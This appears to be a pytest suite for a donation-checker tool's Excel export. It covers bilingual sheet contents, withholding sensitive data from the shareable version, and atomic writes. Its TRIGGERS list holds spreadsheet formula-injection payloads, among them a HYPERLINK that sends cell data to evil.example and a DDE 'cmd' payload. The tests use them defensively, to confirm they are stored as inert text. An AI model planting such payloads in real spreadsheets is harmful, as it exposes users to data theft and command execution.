"""The Excel export: content, no formulas from data, the shareable version, atomic writing."""

from __future__ import annotations

import dataclasses
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from donation_checker.assessment import Text
from donation_checker.report import export_xlsx
from tests.core.report_fixtures import (
    HEADROOM,
    SENSITIVE_NUMBERS,
    SENSITIVE_PLACES,
    make_assessment,
    rule_ids,
    spellings,
)

TRIGGERS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
]


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as z:
        return {
            n: z.read(n).decode("utf-8")
            for n in z.namelist()
            if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml"
        }


def all_values(path: Path) -> list[object]:
    wb = load_workbook(path)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def hostile_assessment(text: str):  # type: ignore[no-untyped-def]
    a = make_assessment(donor=text)
    f = dataclasses.replace(a.findings[0], message=Text(text, text), source=Text(text, text))
    lines = (dataclasses.replace(a.lines[0], label=text), *a.lines[1:])
    return dataclasses.replace(a, findings=(f, *a.findings[1:]), lines=lines)


def test_sheets_and_content_in_english(tmp_path: Path) -> None:
    target = tmp_path / "a.xlsx"
    a = make_assessment()
    export_xlsx(a, target)
    wb = load_workbook(target)
    assert wb.sheetnames == [
        "Summary",
        "Lines",
        "Findings",
        "Evidence",
        "Conditions",
        "Counter-proposal",
        "Life-cycle cost",
        "Fleet impact",
        "Inputs",
    ]
    lines = list(wb["Lines"].iter_rows(values_only=True))
    assert lines[0][:3] == ("Line", "Item offered", "Score")
    assert len(lines) == 1 + len(a.lines)
    assert lines[2][2] == 41
    found = {row[0] for row in wb["Findings"].iter_rows(min_row=2, values_only=True)}
    assert found == rule_ids(a)
    conditions = [row[3] for row in wb["Conditions"].iter_rows(min_row=2, values_only=True)]
    assert "Supply the diesel version of the ambulance." in conditions
    cost = next(wb["Life-cycle cost"].iter_rows(min_row=4, max_row=4, values_only=True))
    assert cost[:5] == (1, 62_200_000, 41_000_000, 27_750_000, 130_950_000)
    assert cost[5] == HEADROOM


def test_unknown_scores_are_written_as_a_word_not_blank(tmp_path: Path) -> None:
    target = tmp_path / "fr.xlsx"
    export_xlsx(make_assessment(), target, lang="fr")
    wb = load_workbook(target)
    assert "Synthèse" in wb.sheetnames
    families = {
        row[0]: row[1] for row in wb["Synthèse"].iter_rows(values_only=True) if row[0] and row[1]
    }
    assert families["Pièces de rechange"] == "inconnu"
    unknown_findings = [
        row for row in wb["Constats"].iter_rows(min_row=2, values_only=True) if row[0] == "SPARE-01"
    ]
    assert unknown_findings and all(row[6] == "inconnu" for row in unknown_findings)


@pytest.mark.parametrize("text", TRIGGERS)
def test_formula_like_text_is_stored_as_text(tmp_path: Path, text: str) -> None:
    target = tmp_path / "t.xlsx"
    export_xlsx(hostile_assessment(text), target)
    for name, xml in sheet_xml(target).items():
        assert "<f>" not in xml and "<f " not in xml, name
        assert 't="e"' not in xml, name
    kept = text.replace("\t", " ").replace("\r", " ").replace("\x00", "")
    assert kept in all_values(target)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.text(alphabet=st.sampled_from("=+-@\t\r\x00\"'!|&A1( )#é"), min_size=1, max_size=12))
def test_no_string_ever_becomes_a_formula(tmp_path: Path, text: str) -> None:
    target = tmp_path / "p.xlsx"
    export_xlsx(hostile_assessment(text), target)
    for xml in sheet_xml(target).values():
        assert not re.search(r"<f[ >]", xml)


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_shareable_export_leaks_no_holdings(tmp_path: Path, lang: str) -> None:
    target = tmp_path / "s.xlsx"
    export_xlsx(make_assessment(), target, lang=lang, share=True)
    values = [v for v in all_values(target) if v is not None]
    text = " | ".join(str(v) for v in values)
    numbers = {float(v) for v in values if isinstance(v, int | float)}
    for n in SENSITIVE_NUMBERS:
        assert float(n) not in numbers, n
        for spelling in spellings(int(n)):
            assert not re.search(rf"(?<![\d]){re.escape(spelling)}(?!\d)", text), spelling
    assert HEADROOM not in numbers
    for place in SENSITIVE_PLACES:
        assert place not in text
    assert "Inventaire_Tessalit" not in text
    assert "Parc 12" not in text  # inventory row references are dropped


def test_a_failed_export_keeps_the_previous_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "keep.xlsx"
    export_xlsx(make_assessment(), target)
    good = target.read_bytes()

    def broken(*args: object, **kwargs: object) -> None:
        raise OSError("disk full")

    monkeypatch.setattr("openpyxl.workbook.workbook.Workbook.save", broken)
    with pytest.raises(OSError):
        export_xlsx(make_assessment(6), target)
    assert target.read_bytes() == good
    assert [p.name for p in tmp_path.iterdir()] == ["keep.xlsx"]


def test_long_offers_keep_every_line_and_every_counter_proposal(tmp_path: Path) -> None:
    target = tmp_path / "long.xlsx"
    a = make_assessment(300)
    a = dataclasses.replace(a, conditions=tuple(f.condition for f in a.findings if f.condition))
    export_xlsx(a, target)
    wb = load_workbook(target)
    places = [row[2] for row in wb["Conditions"].iter_rows(min_row=2, values_only=True)]
    assert not any("more" in str(p) for p in places)
    assert any(str(p).endswith(", 300") for p in places)
    assert wb["Counter-proposal"].max_row == 1 + len(a.counter_proposals)
    assert wb["Findings"].max_row == 1 + len(a.findings) + len(a.offer_findings)


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_findings_cite_their_source_in_the_readers_language(tmp_path: Path, lang: str) -> None:
    a = make_assessment()
    target = tmp_path / f"{lang}.xlsx"
    export_xlsx(a, target, lang=lang)
    sheet = load_workbook(target).worksheets[2]
    rows = list(sheet.iter_rows(values_only=True))
    column = rows[0].index("Source")
    by_rule = {row[0]: row[column] for row in rows[1:]}
    for f in (*a.findings, *a.offer_findings):
        assert by_rule[f.rule_id] == (f.source.get(lang) or None), f.rule_id
